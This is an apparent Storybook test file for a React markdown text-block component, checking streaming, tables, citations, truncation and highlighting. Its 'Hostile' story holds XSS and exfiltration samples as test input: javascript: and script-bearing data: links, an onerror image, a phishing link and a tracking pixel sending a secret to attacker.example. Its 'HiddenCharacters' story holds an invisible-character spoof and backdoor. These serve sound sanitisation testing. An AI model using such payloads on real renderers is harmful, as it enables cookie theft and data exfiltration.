import rehypeKatex from 'rehype-katex';
import remarkMath from 'remark-math';
import type { Meta, StoryObj } from '@storybook/react-vite';
import * as React from 'react';
import { expect, userEvent, waitFor, within } from 'storybook/test';
import { TextBlockView } from '../../src/components/blocks/text/text-block-view.js';
import { MarkdownEngineContext } from '../../src/components/blocks/text/use-markdown-engine.js';
import { defaultHighlightLanguages } from '../../src/components/provider/highlight-defaults.js';
import type { HighlightOptions } from '../../src/components/provider/highlight-options.js';
import { AgentMessagesProvider } from '../../src/components/provider/agent-messages-provider.js';
import type { TextBlock } from '../../src/core/model/block.js';
import { textBlock } from '../../src/core/model/factories.js';
import { lazyMarkdownEngine } from '../../src/markdown/engine/engine-source.js';
import * as engine from '../../src/markdown/engine/engine.js';

const finished = (text: string, init: Partial<Omit<TextBlock, 'type' | 'text'>> = {}) =>
  textBlock(text, {
    id: 'text-1',
    created_at: '2025-01-01T00:00:00Z',
    finished_at: '2025-01-01T00:00:05Z',
    ...init,
  });

const streamingBlock = (text: string) =>
  textBlock(text, { id: 'text-2', created_at: '2025-01-01T00:00:00Z', finished_at: null });

const DONE_TEXT = `# Release checklist

The build is **green** and the _changelog_ is ready; ~~Friday~~ Monday it ships.

## Steps

1. Tag the release with \`git tag v1.2.0\`
2. Publish the package
   - run the smoke tests
   - update the docs

### Status

- [x] Tests pass
- [ ] Docs reviewed

| Package | Size | Change |
| :-- | --: | :-: |
| core | 12.4 kB | −0.3 kB |
| react | 28.1 kB | +1.2 kB |

\`\`\`ts
export function greet(name: string): string {
  return \`Hello, \${name}!\`;
}
\`\`\`

> Read the [migration guide](https://example.com/docs/migrate) or mail <team@example.com>.
`;

const meta = {
  title: 'Blocks/TextBlockView',
  component: TextBlockView,
} satisfies Meta<typeof TextBlockView>;

export default meta;
type Story = StoryObj<typeof meta>;

/** Mid-stream: a table whose rows are still arriving, and a code fence that has not closed. */
export const Streaming: Story = {
  args: { block: streamingBlock('') },
  render: () => (
    <div>
      <TextBlockView
        data-testid="stream-table"
        streaming
        block={streamingBlock(
          'Here are the results so **far**:\n\n| Model | Score |\n| --- | --- |\n| small | 71 |\n| lar',
        )}
      />
      <TextBlockView
        data-testid="stream-code"
        streaming
        block={streamingBlock(
          'And the script:\n\n```python\nimport sys\n\ndef main():\n    print("hel',
        )}
      />
    </div>
  ),
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    const table = canvas.getByTestId('stream-table');
    await expect(table).toHaveAttribute('data-streaming');
    await expect(within(table).getByRole('table')).toBeVisible();
    await expect(within(table).getByText('lar')).toBeVisible();
    const code = canvas.getByTestId('stream-code');
    await expect(code.querySelector('[data-slot="code-block"][data-incomplete]')).not.toBeNull();
    await expect(code.textContent).not.toContain('```');
  },
};

const ARRIVING = [
  'See the',
  'See the **',
  'See the **docs',
  'See the **docs** in [the guide',
  'See the **docs** in [the guide](https://exa',
  'See the **docs** in [the guide](https://example.com/guide) today.',
];

/** Streams `steps` one per click, as tokens arrive; the last one is the finished text. */
function TokenByToken({ steps }: { steps: readonly string[] }) {
  const [step, setStep] = React.useState(0);
  const done = step === steps.length - 1;
  return (
    <div>
      <TextBlockView
        data-testid="arriving"
        streaming={!done}
        block={streamingBlock(steps[step] as string)}
      />
      <button type="button" disabled={done} onClick={() => setStep(step + 1)}>
        Next token
      </button>
    </div>
  );
}

/**
 * Token by token: markup that ends the text (`**`, a link destination still arriving) is held
 * back until a word follows it or the stream pauses, and a half-written URL never shows as text.
 */
export const StreamingMarkupArriving: Story = {
  args: { block: streamingBlock('') },
  render: () => <TokenByToken steps={ARRIVING} />,
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    const block = canvas.getByTestId('arriving');
    const next = canvas.getByRole('button', { name: 'Next token' });
    await userEvent.click(next);
    await expect(block).toHaveTextContent('See the');
    await userEvent.click(next);
    await expect(block.querySelector('strong')).toHaveTextContent('docs');
    await userEvent.click(next);
    await expect(block).toHaveTextContent('the guide');
    await userEvent.click(next);
    await expect(block).toHaveTextContent('the guide');
    await expect(block.textContent).not.toContain('https://exa');
    await expect(block.textContent).not.toContain('](');
    await userEvent.click(next);
    await expect(canvas.getByRole('link', { name: /the guide/ })).toHaveAttribute(
      'href',
      'https://example.com/guide',
    );
    await expect(block).toHaveTextContent('See the docs in the guide');
    await expect(block.textContent).not.toContain('**');
  },
};

const HELD = ['Costs', 'Costs\n:-', 'Costs\n:-\n| 3 ms |'];

/**
 * The caret follows what shows: while `\n:-` is held back, the line shows as text with the caret
 * after it; once the stream pauses on it, it shows as what it is, a table's delimiter row, and
 * the caret moves below the table.
 */
export const StreamingHeldMarkupCaret: Story = {
  args: { block: streamingBlock('') },
  render: () => <TokenByToken steps={HELD} />,
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    const block = canvas.getByTestId('arriving');
    const tail = () => block.querySelector('[data-slot="text-block-chunk"]:last-child');
    await userEvent.click(canvas.getByRole('button', { name: 'Next token' }));
    await expect(block).toHaveTextContent('Costs');
    await expect(within(block).queryByRole('table')).toBeNull();
    await expect(tail()).toHaveAttribute('data-caret', 'inline');
    await waitFor(() => expect(within(block).getByRole('table')).toBeVisible());
    await expect(tail()).toHaveAttribute('data-caret', 'block');
  },
};

const TABLE =
  'Costs are **low** for `cached` reads.\n\n| Step | Time | Note |\n| - | - | - |\n| parse | 1 ms | once |\n';
const TYPED = [
  'Costs are',
  'Costs are **low',
  'Costs are **low** for `cached',
  `${TABLE}| render`,
  `${TABLE}| render | 0.2 ms | *per token`,
  `${TABLE}| render | 0.2 ms | *per token* |\n`,
];

/**
 * Emphasis, code and a table row's cells typed after the parse the text stands on: they show
 * as a full parse shows them (an open span closed, the row's cells filled one by one) while the
 * tokens arrive, without parsing the text again.
 */
export const StreamingTypedSpansAndCells: Story = {
  args: { block: streamingBlock('') },
  render: () => <TokenByToken steps={TYPED} />,
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    const block = canvas.getByTestId('arriving');
    const next = canvas.getByRole('button', { name: 'Next token' });
    await userEvent.click(next);
    await expect(block.querySelector('strong')).toHaveTextContent('low');
    await userEvent.click(next);
    await expect(block.querySelector('strong')).toHaveTextContent(/^low$/);
    await expect(block.querySelector('code')).toHaveTextContent('cached');
    await userEvent.click(next);
    await userEvent.click(next);
    const cells = () => [...block.querySelectorAll('tbody tr:last-child td')];
    await expect(cells().map((cell) => cell.textContent)).toEqual([
      'render',
      '0.2 ms',
      'per token',
    ]);
    await expect(cells()[2]?.querySelector('em')).toHaveTextContent('per token');
    await userEvent.click(next);
    await expect(within(block).getAllByRole('row')).toHaveLength(3);
  },
};

const INTRO = 'Intro with a [link](https://example.com/a).\n\n';
const BY_BLOCK = [
  INTRO,
  `${INTRO}Options:\n- one\n\n`,
  `${INTRO}Options:\n- one\n\n- tw`,
  `${INTRO}Options:\n- one\n\n- two\n\nThat is all.\n\n`,
  `${INTRO}Options:\n- one\n\n- two\n\nThat is all.\n\nDone.`,
];

/**
 * Block by block: each finished block joins the chunk above it, which parses only that block;
 * what is already there stays the same elements, and a list that starts under a paragraph line
 * goes on after a blank line as one loose list, as the finished text shows it.
 */
export const StreamingBlockByBlock: Story = {
  args: { block: streamingBlock('') },
  render: () => <TokenByToken steps={BY_BLOCK} />,
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    const block = canvas.getByTestId('arriving');
    const next = canvas.getByRole('button', { name: 'Next token' });
    await userEvent.click(next);
    // The intro has finished: its chunk grows below it from here on.
    const intro = canvas.getByRole('link', { name: /link/ }).closest('p');
    // The second item, still arriving, is an item of the same list.
    await userEvent.click(next);
    await expect(block.querySelectorAll('ul')).toHaveLength(1);
    await expect(block.querySelectorAll('li')).toHaveLength(2);
    await userEvent.click(next);
    await expect(block.querySelectorAll('li > p')).toHaveLength(2);
    await userEvent.click(next);
    await expect(block).not.toHaveAttribute('data-streaming');
    await expect(block.querySelectorAll('ul')).toHaveLength(1);
    // The finished paragraph was never rebuilt, and its hidden text is placed against its chunk.
    await expect(canvas.getByRole('link', { name: /link/ }).closest('p')).toBe(intro);
    const hidden = block.querySelector('[data-slot="text-block-visually-hidden"]');
    await expect((hidden as HTMLElement | null)?.offsetParent).toBe(
      hidden?.closest('[data-slot="text-block-chunk"]'),
    );
  },
};

const LONG_TABLE = `| Step | Cost | Result |\n| --- | ---: | :-: |\n${Array.from(
  { length: 24 },
  (_, i) => `| step ${i} | ${i * 3} ms | ok |\n`,
).join('')}`;
const WIDE_CELL = '| step 24 | 72 ms | retried after the upstream service timed out';
const BY_ROW = [
  `${LONG_TABLE}| step 24 | 72 ms | re`,
  `${LONG_TABLE}${WIDE_CELL}`,
  `${LONG_TABLE}${WIDE_CELL} |\n| step 25`,
  `${LONG_TABLE}${WIDE_CELL} |\n| step 25 | 75 ms | ok |\n`,
];

/** Where each column of the story's table starts and how wide it is. */
function columnBoxes(block: HTMLElement): string {
  return [...block.querySelectorAll('thead th')]
    .map((cell) => {
      const box = cell.getBoundingClientRect();
      return `${Math.round(box.left)}+${Math.round(box.width)}`;
    })
    .join(' ');
}

/**
 * Row by row through a long table: its columns stay put while a row streams (a cell that
 * outgrows its column wraps), and are laid out again from every cell once the row finishes.
 */
export const StreamingLongTable: Story = {
  args: { block: streamingBlock('') },
  render: () => <TokenByToken steps={BY_ROW} />,
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    const block = canvas.getByTestId('arriving');
    const next = canvas.getByRole('button', { name: 'Next token' });
    // The code that pins loads with the first long table.
    await waitFor(() => expect(canvas.getByRole('table')).toHaveAttribute('data-columns-frozen'));
    const pinned = columnBoxes(block);
    await userEvent.click(next);
    await expect(block).toHaveTextContent('timed out');
    await expect(columnBoxes(block)).toBe(pinned);
    await userEvent.click(next);
    await expect(columnBoxes(block)).not.toBe(pinned);
    await userEvent.click(next);
    await expect(block).not.toHaveAttribute('data-streaming');
    await expect(canvas.getByRole('table')).not.toHaveAttribute('style');
  },
};

/**
 * A long table mid-row: the finished rows in the table, the live row in a presentational table
 * of its own right below, on the same columns (so a token lays out one row, not every row).
 */
export const LongTableLiveRow: Story = {
  args: { block: streamingBlock(BY_ROW[1] ?? ''), streaming: true },
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    await waitFor(() => expect(canvas.getByRole('table')).toHaveAttribute('data-columns-frozen'));
    const live = canvasElement.querySelector('[data-slot="text-block-table-live"]');
    await expect(live).toHaveAttribute('role', 'presentation');
    await expect(live).toHaveTextContent('retried after');
    // The table holds the header and the finished rows only.
    await expect(within(canvas.getByRole('table')).getAllByRole('row')).toHaveLength(25);
    const headers = [...canvasElement.querySelectorAll('thead th')];
    const cells = [...(live?.querySelectorAll('td') ?? [])];
    const edges = (elements: Element[]) =>
      elements.map((element) => Math.round(element.getBoundingClientRect().left)).join(' ');
    await expect(edges(cells)).toBe(edges(headers));
  },
};

export const Done: Story = {
  args: { block: finished(DONE_TEXT) },
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    await expect(canvas.getByRole('heading', { name: 'Release checklist' })).toBeVisible();
    await expect(canvas.getByRole('checkbox', { name: 'Done' })).toBeChecked();
    const link = canvas.getByRole('link', { name: /migration guide/ });
    await expect(link).toHaveAttribute('target', '_blank');
    await expect(link).toHaveAttribute('rel', 'noopener noreferrer nofollow ugc');
    await waitFor(
      () =>
        expect(
          canvasElement.querySelector('[data-slot="code-block"][data-highlighted]'),
        ).not.toBeNull(),
      { timeout: 10_000 },
    );
  },
};

/** The text until a browser has loaded the markdown engine (a lazy chunk), then the markdown. */
function EngineArriving() {
  const [lazy] = React.useState(() => {
    let land: () => void = () => undefined;
    const gate = new Promise<void>((resolve) => (land = resolve));
    return { source: lazyMarkdownEngine(() => gate.then(() => engine)), land };
  });
  return (
    <div>
      <button type="button" onClick={lazy.land}>
        Load the engine
      </button>
      <MarkdownEngineContext.Provider value={lazy.source}>
        <TextBlockView data-testid="arriving-engine" block={finished(DONE_TEXT)} />
      </MarkdownEngineContext.Provider>
    </div>
  );
}

export const EngineLoading: Story = {
  args: { block: finished('') },
  render: () => <EngineArriving />,
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    const block = canvas.getByTestId('arriving-engine');
    await expect(block.querySelector('[data-slot="text-block-plain"]')).toHaveTextContent(
      'The build is **green**',
    );
    await userEvent.click(canvas.getByRole('button', { name: 'Load the engine' }));
    await expect(await canvas.findByRole('heading', { name: 'Release checklist' })).toBeVisible();
    await expect(block.querySelector('[data-slot="text-block-plain"]')).toBeNull();
  },
};

const CITED_TEXT =
  'Octopuses have three hearts and blue blood. Their arms can taste what they touch, and most species live only one to two years.';

/** `[start, end)` of `phrase` in the cited text. */
function spanOf(phrase: string): [number, number] {
  const start = CITED_TEXT.indexOf(phrase);
  return [start, start + phrase.length];
}

export const WithCitations: Story = {
  args: {
    block: finished(CITED_TEXT, {
      citations: [
        {
          url: 'https://ocean.example.org/octopus',
          title: 'Octopus anatomy',
          page: 12,
          snippet:
            'Two branchial hearts pump blood through the gills; a systemic heart serves the body.',
          span: spanOf('Octopuses have three hearts and blue blood.'),
        },
        {
          url: 'https://science.example.com/arms',
          title: 'Chemotactile receptors',
          span: spanOf('Their arms can taste what they touch'),
        },
        {
          file_id: 'file-7f3a',
          title: 'Field notes.pdf',
          page: 4,
          span: spanOf('most species live only one to two years.'),
        },
        {
          url: 'https://ocean.example.org/octopus',
          span: spanOf('most species live only one to two years.'),
        },
      ],
    }),
  },
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    const [marker] = canvas.getAllByRole('button', { name: 'Source 1' });
    marker?.focus();
    const card = await canvas.findByRole('tooltip');
    await expect(card).toHaveTextContent('Octopus anatomy');
    await expect(card).toHaveTextContent('ocean.example.org');
    await expect(card).toHaveTextContent('Page 12');
    const sources = canvas.getByRole('list', { name: 'Sources' });
    await expect(within(sources).getAllByRole('listitem')).toHaveLength(3);
  },
};

export const Empty: Story = {
  args: { block: finished('') },
  play: async ({ canvasElement }) => {
    const root = canvasElement.querySelector('[data-slot="text-block"]');
    await expect(root).not.toBeNull();
    await expect(root?.childElementCount).toBe(0);
  },
};

function hugeDocument(): string {
  let text = `A word without spaces: ${'supercalifragilistic'.repeat(40)}\n\n\`\`\`text\n${'x'.repeat(2000)}\n\`\`\`\n\n`;
  for (let i = 1; text.length < 200_000; i++) {
    text += `## Section ${i}\n\nParagraph ${i} with *emphasis*, \`inline code\` and [a link](https://example.com/${i}). ${'The quick brown fox jumps over the lazy dog. '.repeat(6)}\n\n- first point\n- second point\n\n`;
  }
  return `${text}## The end\n`;
}

/** 200 KB: the first 100,000 characters render, the rest waits for "Show all". */
export const Huge: Story = {
  args: { block: finished(hugeDocument()) },
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    const root = canvasElement.querySelector('[data-slot="text-block"]') as HTMLElement;
    await expect(root).toHaveAttribute('data-truncated');
    await expect(canvas.queryByRole('heading', { name: 'The end' })).toBeNull();
    await userEvent.click(canvas.getByRole('button', { name: /^Show all/ }));
    await expect(canvas.getByRole('heading', { name: 'The end' })).toBeInTheDocument();
    await expect(root).not.toHaveAttribute('data-truncated');
    await expect(root.scrollWidth).toBeLessThanOrEqual(root.clientWidth);
  },
};

/**
 * One paragraph of 2,000,000 characters: its first 100,000 show, in pieces, with how much that is
 * and a button that reveals 200,000 more at a time (never the whole block at once).
 */
export const HugeBlock: Story = {
  args: { block: finished('All work and no play. '.repeat(90_910)) },
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    const root = canvasElement.querySelector('[data-slot="text-block"]') as HTMLElement;
    const content = () =>
      canvasElement.querySelector('[data-slot="text-block-content"]')?.textContent ?? '';
    await expect(root).toHaveAttribute('data-truncated');
    await expect(
      canvas.getByText('Showing the first 100,000 characters of 2,000,020'),
    ).toBeVisible();
    await expect(content()).toHaveLength(100_000);
    await userEvent.click(canvas.getByRole('button', { name: 'Show 200,000 more' }));
    await waitFor(() => expect(content()).toHaveLength(300_000));
    await expect(root).toHaveAttribute('data-truncated');
  },
};

/** 600 sources: the list shows the first 50 and adds 500 per click. */
export const ManySources: Story = {
  args: {
    block: finished('A survey that cites everything.', {
      citations: Array.from({ length: 600 }, (_, index) => ({
        url: `https://papers.example.org/${index + 1}`,
        title: `Paper ${index + 1}`,
      })),
    }),
  },
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    const sources = canvas.getByRole('list', { name: 'Sources' });
    await expect(within(sources).getAllByRole('listitem')).toHaveLength(50);
    await expect(sources.querySelector('li[value]')).toBeNull();
    await userEvent.click(canvas.getByRole('button', { name: 'Show 500 more' }));
    await waitFor(() => expect(within(sources).getAllByRole('listitem')).toHaveLength(550));
  },
};

const HOSTILE_TEXT = `[Click to verify](javascript:alert(document.cookie)) and [open](data:text/html,<script>alert(1)</script>)

<img src=x onerror="window.__pwned = true"> <script>window.__pwned = true</script>

[https://bank.example.com/login](https://evil.example.net/phish)

![tracking pixel](https://attacker.example/collect?secret=sk-12345)

${'*'.repeat(100_000)}

${'['.repeat(100_000)}
`;

export const Hostile: Story = {
  args: { block: finished(HOSTILE_TEXT) },
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    await expect(canvasElement.querySelector('script, img, iframe')).toBeNull();
    await expect(canvasElement.querySelector('[href^="javascript:"], [href^="data:"]')).toBeNull();
    await expect(canvas.getByText(/<img src=x onerror="window.__pwned = true">/)).toBeVisible();
    await expect(
      canvas.getByText(/Blocked link: javascript:alert\(document.cookie\)/),
    ).toBeVisible();
    await expect(canvas.getByText('(links to evil.example.net)')).toBeVisible();
    await userEvent.click(canvas.getByRole('button', { name: /Load from attacker\.example/ }));
    await expect(canvas.getByRole('img', { name: 'tracking pixel' })).toBeInTheDocument();
    await expect((window as { __pwned?: boolean }).__pwned).toBeUndefined();
  },
};

/** `math` is opt-in: the app passes its own remark-math and rehype-katex; KaTeX renders MathML. */
export const WithMath: Story = {
  args: {
    math: { remarkMath, rehypeKatex },
    block: finished('Euler: $e^{i\\pi} + 1 = 0$\n\n$$\n\\int_0^1 x^2 \\, dx = \\frac{1}{3}\n$$\n'),
  },
  play: async ({ canvasElement }) => {
    await waitFor(() => expect(canvasElement.querySelector('math')).not.toBeNull(), {
      timeout: 10_000,
    });
  },
};

const HIGHLIGHT_WITH_ELIXIR: HighlightOptions = {
  languages: { ...defaultHighlightLanguages, elixir: () => import('shiki/langs/elixir.mjs') },
};

/**
 * `highlight` on the provider: Elixir is added to the default languages, so it has colours;
 * Haskell is in neither, so it stays plain (and copyable).
 */
export const HighlightLanguages: Story = {
  args: { block: finished('') },
  render: () => (
    <AgentMessagesProvider highlight={HIGHLIGHT_WITH_ELIXIR}>
      <TextBlockView
        block={finished(
          'Added by the app:\n\n```elixir\ndefmodule Greeter do\n  def hello(name), do: "Hello, #{name}!"\nend\n```\n\nNot configured:\n\n```haskell\nmain :: IO ()\nmain = putStrLn "hi"\n```\n',
        )}
      />
    </AgentMessagesProvider>
  ),
  play: async ({ canvasElement }) => {
    const elixir = () => canvasElement.querySelector('[data-language="elixir"]');
    await waitFor(() => expect(elixir()?.hasAttribute('data-highlighted')).toBe(true), {
      timeout: 10_000,
    });
    const haskell = canvasElement.querySelector('[data-language="haskell"]');
    await expect(haskell?.hasAttribute('data-highlighted')).toBe(false);
    await expect(haskell?.querySelector('code')).toHaveTextContent('main = putStrLn "hi"');
  },
};

export const AllStates: Story = {
  args: { block: finished('') },
  render: () => (
    <div style={{ display: 'grid', gap: 24 }}>
      <TextBlockView
        block={streamingBlock('Thinking about it, the answer is **probably')}
        streaming
      />
      <TextBlockView
        block={finished('A finished answer with `code` and a [link](https://example.com).')}
      />
      <TextBlockView
        block={finished('Cited claim.', {
          citations: [{ url: 'https://example.com/source', title: 'A source', span: [0, 12] }],
        })}
      />
      <TextBlockView block={finished('')} />
      <TextBlockView block={finished('[bad](javascript:alert(1)) <b>raw html</b>')} />
    </div>
  ),
};

/**
 * Prose and code holding characters that would show as nothing: zero-width characters, a word
 * joiner, an invisible operator, a byte-order mark, Hangul fillers (one used as a variable name in
 * code) and a blank Braille pattern. Each shows as a marker such as `[U+200B]` that copying leaves
 * out, and a note says the text held some. Emoji sequences and Persian keep their joiners.
 */
export const HiddenCharacters: Story = {
  args: {
    block: finished(
      'Send it to pay\u200Bpal.example, word\u2060joiner, a\u2062b, \uFEFFstart, blank \u3164 and \u2800 here.\n\n' +
        'Inline `admin\u200D` and a backdoor:\n\n' +
        '```js\nconst { timeout,\u3164} = req.query;\n```\n\n' +
        'Kept: \u{1F468}\u200D\u{1F469}\u200D\u{1F467}, \u2764\uFE0F, \u0645\u06CC\u200C\u062E\u0648\u0627\u0647\u0645.',
    ),
  },
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    const content = canvasElement.querySelector('[data-slot="text-block-content"]');
    const text = content?.textContent ?? '';
    await expect(text).toContain('pay[U+200B]pal.example');
    await expect(text).toContain('word[U+2060]joiner');
    await expect(text).toContain('admin[U+200D]');
    await expect(text).toContain('timeout,[U+3164]}');
    await expect(text).toContain('\u{1F468}\u200D\u{1F469}\u200D\u{1F467}');
    await expect(text).not.toMatch(/[\u200B\u2060\u2062\uFEFF\u3164\u2800]/);
    await expect(canvas.getByRole('note')).toHaveTextContent(/hidden characters/);
    await expect(canvasElement.querySelector('[data-hidden-characters]')).not.toBeNull();
    // What a copy takes: the text without the characters or their markers.
    const paragraph = content?.querySelector('p');
    const selection = window.getSelection();
    selection?.selectAllChildren(paragraph as Node);
    await expect(selection?.toString()).toContain('Send it to paypal.example, wordjoiner');
    await expect(selection?.toString()).not.toContain('[U+');
    selection?.removeAllRanges();
  },
};
